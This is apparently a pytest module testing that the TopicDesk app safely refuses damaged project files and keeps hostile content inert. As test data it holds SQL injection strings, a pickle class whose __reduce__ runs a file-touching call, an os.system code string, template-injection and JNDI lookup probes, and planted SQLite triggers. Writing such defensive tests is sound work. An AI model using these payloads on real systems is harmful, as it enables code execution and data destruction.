"""Hostile and damaged project files: refused with a clear message, or read as plain data.

Each file is opened through the store (as the app does) and through ``topicdesk info``;
a refusal must be one sentence naming the problem, never a traceback, and nothing in a
file may run as code or change anything on disk.
"""

from __future__ import annotations

import os
import pickle
import random
import shutil
import sqlite3
from pathlib import Path

import pytest

from tests.factories import curated_project, tamper
from topicdesk.cli import main
from topicdesk.core.edits import RenameTopic
from topicdesk.errors import TopicDeskError
from topicdesk.project import store
from topicdesk.project.store import open_project, save_project

TABLES = ["arrays", "columns", "edits", "meta", "notes", "topics"]
SQL = "'); DROP TABLE topics; --"


@pytest.fixture(scope="module")
def original(sotu_slice, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "original.topicdesk"
    save_project(curated_project(sotu_slice.head(80)), path)
    return path


@pytest.fixture
def copy(original, tmp_path) -> Path:
    path = tmp_path / "p.topicdesk"
    shutil.copy(original, path)
    return path


def _sql(path: Path, *statements: str) -> None:
    tamper(path, *statements)


def _refused(path: Path, words: str, capsys) -> str:
    """The store and `topicdesk info` both refuse the file with the same one-line message."""
    with pytest.raises(TopicDeskError) as caught:
        open_project(path)
    message = str(caught.value)
    assert words in message
    assert "\n" not in message
    capsys.readouterr()
    assert main(["info", str(path)]) == 1
    out = capsys.readouterr()
    assert out.out == ""
    assert out.err == f"error: {message}\n"
    return message


def _info(path: Path, capsys) -> str:
    capsys.readouterr()
    assert main(["info", str(path)]) == 0
    out = capsys.readouterr()
    assert out.err == ""
    return out.out


# ----- damaged bytes -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cut, words",
    [
        (10, "is not a TopicDesk project"),
        (16, "cut short"),
        (99, "cut short"),
        (100, "cut short"),
        (4096, "cut short"),
        ("half", "cut short"),
        ("last page", "cut short"),
        ("last byte", "cut short"),
    ],
)
def test_truncated_files(cut, words, copy, capsys):
    data = copy.read_bytes()
    end = {"half": len(data) // 2, "last page": len(data) - 4096, "last byte": len(data) - 1}
    copy.write_bytes(data[: end.get(cut, cut)])
    message = _refused(copy, words, capsys)
    if words == "cut short":
        assert message == (
            "p.topicdesk is damaged (the file is cut short, perhaps by an interrupted copy); "
            "open a backup copy or fit the spreadsheet again."
        )


def test_zero_byte_file(tmp_path, capsys):
    path = tmp_path / "empty.topicdesk"
    path.write_bytes(b"")
    assert _refused(path, "empty", capsys) == (
        "empty.topicdesk is empty (0 bytes), so it holds no project; open a backup copy."
    )


def test_random_bytes_behind_an_sqlite_header(copy, capsys):
    size = len(copy.read_bytes())
    copy.write_bytes(store.SQLITE_MAGIC + random.Random(3).randbytes(size - 16))
    _refused(copy, "is damaged", capsys)


def test_random_damage_inside_a_valid_file_is_refused_or_harmless(copy, original):
    """Changed bytes are refused (SQLite's checks, then the content checksum), or fell where
    they change nothing: a file never opens with different contents, never crashes."""
    data = original.read_bytes()
    intact = open_project(original)
    rng = random.Random(11)
    outcomes = {"opened": 0, "refused": 0}
    for _ in range(150):
        damaged = bytearray(data)
        for _ in range(rng.choice([1, 8, 64])):
            damaged[rng.randrange(100, len(damaged))] = rng.randrange(256)
        copy.write_bytes(bytes(damaged))
        try:
            opened = open_project(copy)
            assert opened.state.equals(intact.state)
            assert opened.corpus.table.equals(intact.corpus.table)
            outcomes["opened"] += 1
        except TopicDeskError as exc:
            assert "p.topicdesk" in str(exc) and "\n" not in str(exc)
            outcomes["refused"] += 1
    print(f"\n150 damaged files: {outcomes}")
    assert outcomes["refused"] > 100


def test_future_schema_version_in_the_cli(copy, capsys):
    _sql(copy, f"PRAGMA user_version = {store.SCHEMA_VERSION + 7}")
    assert _refused(copy, "newer TopicDesk", capsys) == (
        f"p.topicdesk was made with a newer TopicDesk (file format {store.SCHEMA_VERSION + 7}); "
        "update TopicDesk to open it."
    )


# ----- wrong shapes and references -----------------------------------------------------------


@pytest.mark.parametrize(
    "statement, words",
    [
        (  # more rows than there are texts, with data to match
            "UPDATE arrays SET shape = '[1000, 8]', data = zeroblob(32000) WHERE name = 'embeddings'",
            "array embeddings does not match the documents",
        ),
        (
            "UPDATE arrays SET shape = '[2, 2, 2]' WHERE name = 'reduced'",
            "array reduced does not match",
        ),
        ("UPDATE arrays SET shape = '[1e400, 2]' WHERE name = 'coords'", "OverflowError"),
        ("UPDATE arrays SET dtype = 'object' WHERE name = 'coords'", "unsupported type object"),
        ("UPDATE arrays SET data = substr(data, 1, 7) WHERE name = 'coords'", "is damaged"),
        (  # the topics of 7 documents, not 80
            "UPDATE arrays SET data = substr(data, 1, 56) WHERE name = 'document topic'",
            "the topic assignments do not match the documents",
        ),
        (
            (
                "UPDATE arrays SET shape = '[81]', data = CAST(data || zeroblob(8) AS BLOB)"
                " WHERE name = 'document topic'"
            ),
            "assignments do not match",
        ),
        (
            "UPDATE columns SET data = '[1, 2]' WHERE name = 'party'",
            "the column 'party' does not match",
        ),
        (
            "UPDATE columns SET name = 'text' WHERE name = 'party'",
            "the column 'text' does not match",
        ),
        (
            "UPDATE meta SET value = '\"gone\"' WHERE key = 'text_column'",
            "its text column 'gone' is missing",
        ),
        (
            "UPDATE meta SET value = '[1, 2]' WHERE key = 'settings'",
            "the fit settings are unreadable",
        ),
        (
            "UPDATE meta SET value = '{\"min_topic_size\": 1}' WHERE key = 'settings'",
            "invalid fit settings: The minimum topic size must be at least 2 documents",
        ),
        ("UPDATE meta SET value = '1e400' WHERE key = 'rows'", "OverflowError"),
        ("UPDATE topics SET id = -1 WHERE id = 1", "a topic has the invalid number -1"),
        ("UPDATE topics SET representatives = '[1e400]' WHERE id = 1", "OverflowError"),
        (
            "UPDATE topics SET keywords = '" + "[" * 50_000 + "]" * 50_000 + "' WHERE id = 1",
            "RecursionError",
        ),
        ("ALTER TABLE topics ADD COLUMN extra TEXT", "too many values to unpack"),
        ("UPDATE edits SET params = '[1, 2]' WHERE seq = 0", "is damaged"),
        ("DROP TABLE notes", "no such table: notes"),
    ],
)
def test_inconsistent_contents_are_refused(statement, words, copy, capsys):
    _sql(copy, statement)
    message = _refused(copy, words, capsys)
    assert message.startswith("p.topicdesk is damaged (")
    assert message.endswith("); open a backup copy or fit the spreadsheet again.")


def test_references_to_missing_documents_and_topics_are_dropped(copy, capsys):
    _sql(
        copy,
        "UPDATE topics SET representatives = '[1000000, -3, 5]' WHERE id = 1",
        # documents 0 and 1 in topic 999 and document 2 in 99999999999999 (int64, little-endian)
        "UPDATE arrays SET data = CAST(x'e703000000000000e703000000000000ff3f7a10f35a0000'"
        " || substr(data, 25) AS BLOB) WHERE name = 'document topic'",
    )
    project = open_project(copy)
    assert project.state.topics[1].representatives == [5]
    assert sorted(project.state.topics) == [0, 1, 2, 3]
    assert project.state.assignments[:3].tolist() == [-1, -1, -1]
    assert all(project.state.confidence[:3] != project.state.confidence[:3])  # NaN
    assert "4 topics" in _info(copy, capsys)


# ----- text that looks like code ---------------------------------------------------------------


class _Payload:
    """Unpickling this would create the marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


def test_sql_text_round_trips_exactly_and_tables_survive(sotu_slice, tmp_path, capsys):
    table = sotu_slice.head(40).copy()
    table[SQL] = SQL
    table.loc[0, "text"] = SQL + " " + table.loc[0, "text"]
    project = curated_project(table)
    project.corpus.source_name = f"{SQL}.csv"
    history = project.history
    history.do(RenameTopic(topic_id=1, label=SQL))
    project.state.topics[2].note = f'"; DELETE FROM documents; {SQL}'
    project.state.doc_notes[3] = "Robert'); DROP TABLE documents;--"
    path = tmp_path / "sql.topicdesk"
    save_project(project, path)

    back = open_project(path)
    assert back.state.topics[1].label == SQL
    assert back.state.topics[2].note == f'"; DELETE FROM documents; {SQL}'
    assert back.state.doc_notes[3] == "Robert'); DROP TABLE documents;--"
    assert back.corpus.source_name == f"{SQL}.csv"
    assert back.corpus.table[SQL].tolist() == [SQL] * 40
    assert back.corpus.table["text"].tolist() == table["text"].tolist()
    assert back.state.equals(project.state)
    db = sqlite3.connect(path)
    names = [r[0] for r in db.execute("SELECT name FROM sqlite_master ORDER BY name")]
    assert [n for n in names if not n.startswith("sqlite_")] == TABLES
    db.close()
    assert SQL in _info(path, capsys)


def test_code_in_labels_stays_text_and_nothing_runs(copy, tmp_path, capsys):
    marker = tmp_path / "ran.txt"
    payload = pickle.dumps(_Payload(marker))
    code = f"__import__('os').system('touch {marker}')"
    project = open_project(copy)
    project.history.do(RenameTopic(topic_id=1, label=payload.decode("latin-1")))
    project.history.do(RenameTopic(topic_id=2, label=code))
    project.state.topics[3].note = "{{ self.__init__.__globals__ }} ${jndi:ldap://x/a}"
    save_project(project, copy)
    _sql(
        copy,
        "UPDATE topics SET note = x'" + payload.hex() + "' WHERE id = 0",
        "UPDATE meta SET value = json_set(value, '$.model', '"
        + code.replace("'", "''")
        + "') WHERE key = 'settings'",
    )

    back = open_project(copy)
    assert back.state.topics[1].label == payload.decode("latin-1")
    assert back.state.topics[2].label == code
    assert back.state.topics[3].note == "{{ self.__init__.__globals__ }} ${jndi:ldap://x/a}"
    assert isinstance(back.state.topics[0].note, str)  # raw bytes become their text form
    assert back.settings.model == code
    out = _info(copy, capsys)
    assert "__import__('os').system(" in out
    assert not marker.exists()


def test_huge_label_round_trips_and_stays_short_in_the_cli(copy, capsys):
    huge = "Very long label " * 400_000 + "end"  # 6.4 MB
    project = open_project(copy)
    project.history.do(RenameTopic(topic_id=1, label=huge))
    save_project(project, copy)
    assert open_project(copy).state.topics[1].label == huge
    out = _info(copy, capsys)
    assert max(len(line) for line in out.splitlines()) < 200
    assert "Very long label Very long label Very lo…" in out


# ----- SQLite files with more in them ----------------------------------------------------------


def test_extra_tables_and_triggers_never_fire_and_are_dropped_on_save(copy, tmp_path):
    _sql(
        copy,
        "CREATE TABLE spy (what TEXT)",
        "CREATE TRIGGER t_update AFTER UPDATE ON topics BEGIN INSERT INTO spy VALUES ('update'); END",
        "CREATE TRIGGER t_insert AFTER INSERT ON notes BEGIN INSERT INTO spy VALUES ('insert'); END",
        "CREATE TRIGGER t_delete BEFORE DELETE ON meta BEGIN INSERT INTO spy VALUES ('delete'); END",
        "CREATE VIEW everything AS SELECT * FROM topics JOIN spy",
    )
    before = copy.read_bytes()
    project = open_project(copy)
    project.history.do(RenameTopic(topic_id=1, label="edited"))
    assert copy.read_bytes() == before  # read-only: no trigger could run
    assert _leftovers(copy) == []
    save_project(project, copy)
    db = sqlite3.connect(copy)
    assert (
        sorted(r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type != 'index'"))
        == TABLES
    )
    db.close()
    assert open_project(copy).state.topics[1].label == "edited"


def test_topics_as_a_view_is_read_like_the_table(copy, original):
    _sql(copy, "ALTER TABLE topics RENAME TO hidden", "CREATE VIEW topics AS SELECT * FROM hidden")
    assert open_project(copy).state.equals(open_project(original).state)


def test_wal_mode_file_opens_without_files_beside_it(copy, original):
    db = sqlite3.connect(copy)
    assert db.execute("PRAGMA journal_mode = WAL").fetchone()[0] == "wal"
    db.close()
    assert open_project(copy).state.equals(open_project(original).state)
    assert _leftovers(copy) == []


def _leftovers(path: Path) -> list[str]:
    return sorted(n for n in os.listdir(path.parent) if n != path.name)


# ----- not files at all ---------------------------------------------------------------------


def test_a_folder_named_like_a_project(tmp_path, capsys):
    folder = tmp_path / "study.topicdesk"
    folder.mkdir()
    assert _refused(folder, "is a folder", capsys) == (
        f"{folder} is a folder, not a project; choose a .topicdesk file."
    )


def test_a_named_pipe_is_refused_without_waiting(tmp_path, capsys):
    if not hasattr(os, "mkfifo"):
        pytest.skip("named pipes are a POSIX feature")
    pipe = tmp_path / "pipe.topicdesk"
    os.mkfifo(pipe)
    assert _refused(pipe, "not a regular file", capsys) == (
        f"{pipe} is not a regular file; choose a .topicdesk file."
    )


def test_unreadable_file(copy, monkeypatch, capsys):
    real_open = Path.open

    def refuse(self, *args, **kwargs):
        if self.name == copy.name:
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", refuse)
    assert _refused(copy, "Permission denied", capsys) == (
        "Could not read p.topicdesk: Permission denied; check that you may open this file."
    )
